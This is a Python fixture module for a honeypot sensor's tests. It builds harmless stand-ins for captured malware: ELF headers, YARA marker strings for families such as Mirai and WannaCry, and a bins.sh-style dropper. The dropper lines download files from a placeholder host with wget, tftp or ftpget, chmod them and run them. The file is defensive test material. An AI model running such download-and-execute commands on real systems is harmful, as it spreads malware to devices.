"""
payload_fixtures.py - harmless stand-ins for captured payloads (stdlib only).

The integration tests serve these bytes over HTTP / FTP / TFTP, make the
sensor fetch them, and check the classification it records against
expected(name).  Nothing here is malware: the "family" payloads are tiny
files that only carry the marker strings hanipo's YARA rules
(data/yara/<family>.yar) look for, and the ELF payloads are bare headers,
except host_elf(), a minimal, valid x86_64 Linux executable whose whole
program is exit(0).  The C unit test tests/unit/test_classify.c builds the
same stand-ins.

    fixture(name) -> bytes        every name in NAMES
    expected(name) -> {"kind", "elf_arch", "family"}
    elf_header(arch, extra=b"")   bare ELF header for an architecture name
    family_text(family)           text carrying a family's markers
    family_elf(family, arch)      ELF header followed by the markers
    bins_sh(urls)                 bins.sh-style dropper fetching each URL
    host_elf()                    runnable ELF64 x86_64 exit(0)
"""
import random
import struct

# arch name -> (bits, big_endian, e_machine); the names are classify.h's elf_arch values.
ELF_ARCHS = {
    "arm": (32, False, 40),
    "mips": (32, True, 8),
    "mipsel": (32, False, 8),      # reported as elf_arch "mips"
    "x86_64": (64, False, 62),
    "i386": (32, False, 3),
    "aarch64": (64, False, 183),
    "powerpc": (32, True, 20),
    "ppc64": (64, True, 21),
    "sparc": (32, True, 2),
    "m68k": (32, True, 4),
    "sh4": (32, False, 42),
    "arc": (32, False, 93),
    "riscv": (64, False, 243),
    "mips64": (64, True, 8),
}


def elf_arch_reported(arch):
    """The elf_arch hanipo reports for an ELF_ARCHS key."""
    return "mips" if arch == "mipsel" else arch


def elf_header(arch, extra=b""):
    """A complete ELF header (52 or 64 bytes) of an ET_EXEC for arch, then extra."""
    bits, be, machine = ELF_ARCHS[arch]
    e = ">" if be else "<"
    ident = b"\x7fELF" + bytes([2 if bits == 64 else 1, 2 if be else 1, 1]) + b"\0" * 9
    flags = 0x05000000 if machine == 40 else 0        # ARM EABI5
    if bits == 64:
        hdr = ident + struct.pack(e + "HHIQQQIHHHHHH", 2, machine, 1, 0, 0, 0, flags,
                                  64, 56, 0, 64, 0, 0)
    else:
        hdr = ident + struct.pack(e + "HHIIIIIHHHHHH", 2, machine, 1, 0, 0, 0, flags,
                                  52, 32, 0, 40, 0, 0)
    return hdr + extra


# family -> marker strings (each list satisfies the family's rule as plain text).
FAMILY_MARKERS = {
    "mirai": ["/bin/busybox MIRAI", "/dev/watchdog", "dvrHelper", "/proc/net/tcp"],
    "gafgyt": ["PING", "GETLOCALIP", "HTTPFLOOD", "UDPRAW", "KILLATTK", "LOLNOGTFO"],
    "xorddos": ["BB2FA36AAA9541F0", "/etc/cron.hourly/gcc.sh", "/lib/libudev.so",
                "/var/run/gcc.pid"],
    "tsunami": ["NOTICE %s :", "Kaiten", "PAN <target>", "KILLALL", ":Unknown command"],
    "shellbot": ["#!/usr/bin/perl", "use IO::Socket::INET;", "my $servidor = '10.0.0.1';",
                 "my @adms = ('x');", "PRIVMSG", "sub portscan {}"],
    "xmrig": ['"pools": [', "stratum+tcp://pool.invalid:3333", '"donate-level": 1',
              '"randomx": {}', "xmrig"],
    "mozi": ["Mozi", "[ss]", "[cpu]", "[hp]", "dht.transmissionbt.com", "/usr/networks"],
    "wannacry": ["WanaCrypt0r", "WNcry@2ol7", "tasksche.exe", "mssecsvc.exe",
                 "msg/m_english.wnry"],
}


def family_text(family):
    """Text carrying the family's markers, one per line (the shellbot one starts
    with its Perl shebang, so it is a script)."""
    return ("\n".join(FAMILY_MARKERS[family]) + "\n").encode()


def family_elf(family, arch="arm"):
    """An ELF header for arch followed by the family's markers, NUL-separated."""
    body = b"\0" + b"\0".join(m.encode() for m in FAMILY_MARKERS[family]) + b"\0"
    return elf_header(arch, body)


def _fetch_line(url):
    """One 'download, chmod, run' line for url (http(s)://, ftp://, tftp://)."""
    scheme, _, rest = url.partition("://")
    host, _, path = rest.partition("/")
    name = path.rsplit("/", 1)[-1] or "x"
    if scheme == "tftp":
        get = "tftp -g -r %s %s" % (path, host)
    elif scheme == "ftp":
        get = "ftpget %s %s %s" % (host, name, path)
    else:
        get = "wget %s -O %s" % (url, name)
    return "cd /tmp || cd /var/run; %s; chmod 777 %s; ./%s\n" % (get, name, name)


DEFAULT_URLS = ["http://192.0.2.1/bins/x.arm", "http://192.0.2.1/bins/x.mips",
                "http://192.0.2.1/bins/x.x86"]


def bins_sh(urls=None):
    """A bins.sh-style dropper: for each URL, fetch it, chmod it, run it.  With
    three or more URLs it is classified shell-dropper."""
    return ("#!/bin/sh\n" + "".join(_fetch_line(u) for u in (urls or DEFAULT_URLS))).encode()


def host_elf():
    """A minimal, valid ELF64 x86_64 Linux executable: one PT_LOAD segment (R+X)
    mapping the whole (129-byte) file at 0x400000, entry right after the headers.
    Its code is exit(0):  xor edi,edi; mov eax,60 (SYS_exit); syscall."""
    base, ehsize, phsize = 0x400000, 64, 56
    code = b"\x31\xff" + b"\xb8\x3c\x00\x00\x00" + b"\x0f\x05"
    entry = base + ehsize + phsize
    size = ehsize + phsize + len(code)
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + b"\0" * 8     # ELF64, LSB, SYSV
    ehdr = ident + struct.pack("<HHIQQQIHHHHHH",
                               2, 62, 1,                      # ET_EXEC, EM_X86_64, EV_CURRENT
                               entry, ehsize, 0,              # e_entry, e_phoff, e_shoff
                               0, ehsize, phsize, 1,          # e_flags, sizes, e_phnum
                               64, 0, 0)                      # no sections
    phdr = struct.pack("<IIQQQQQQ",
                       1, 5,                                  # PT_LOAD, PF_R|PF_X
                       0, base, base,                         # p_offset, p_vaddr, p_paddr
                       size, size, 0x1000)                    # p_filesz, p_memsz, p_align
    return ehdr + phdr + code


def _random_bytes(n=4096, seed=1):
    """Fixed pseudo-random bytes (not text, no known magic)."""
    rng = random.Random(seed)
    return b"\0" + bytes(rng.getrandbits(8) for _ in range(n - 1))


def _fixtures():
    f = {}
    for arch in ELF_ARCHS:
        f["elf-" + arch] = (lambda a=arch: elf_header(a),
                            {"kind": "elf", "elf_arch": elf_arch_reported(arch),
                             "family": "unknown"})
    for fam in FAMILY_MARKERS:
        kind = "script" if fam == "shellbot" else "text"
        f[fam + "-text"] = (lambda x=fam: family_text(x),
                            {"kind": kind, "elf_arch": "", "family": fam})
        f[fam + "-elf"] = (lambda x=fam: family_elf(x, "arm"),
                           {"kind": "elf", "elf_arch": "arm", "family": fam})
    f["bins-sh"] = (bins_sh, {"kind": "script", "elf_arch": "", "family": "shell-dropper"})
    f["host-elf"] = (host_elf, {"kind": "elf", "elf_arch": "x86_64", "family": "unknown"})
    f["empty"] = (lambda: b"", {"kind": "empty", "elf_arch": "", "family": "unknown"})
    f["random"] = (_random_bytes, {"kind": "data", "elf_arch": "", "family": "unknown"})
    f["elf-truncated"] = (lambda: elf_header("arm")[:10],
                          {"kind": "data", "elf_arch": "", "family": "unknown"})
    f["plain-text"] = (lambda: b"hello, nothing to see here\n",
                       {"kind": "text", "elf_arch": "", "family": "unknown"})
    return f


_FIXTURES = _fixtures()
NAMES = sorted(_FIXTURES)


def fixture(name):
    """The bytes of the named stand-in (see NAMES)."""
    return _FIXTURES[name][0]()


def expected(name):
    """What hanipo should record for the named stand-in: kind, elf_arch ("" when
    not an ELF), family ("unknown" when no rule applies)."""
    return dict(_FIXTURES[name][1])


if __name__ == "__main__":
    for n in NAMES:
        print("%-16s %6d bytes  %s" % (n, len(fixture(n)), expected(n)))
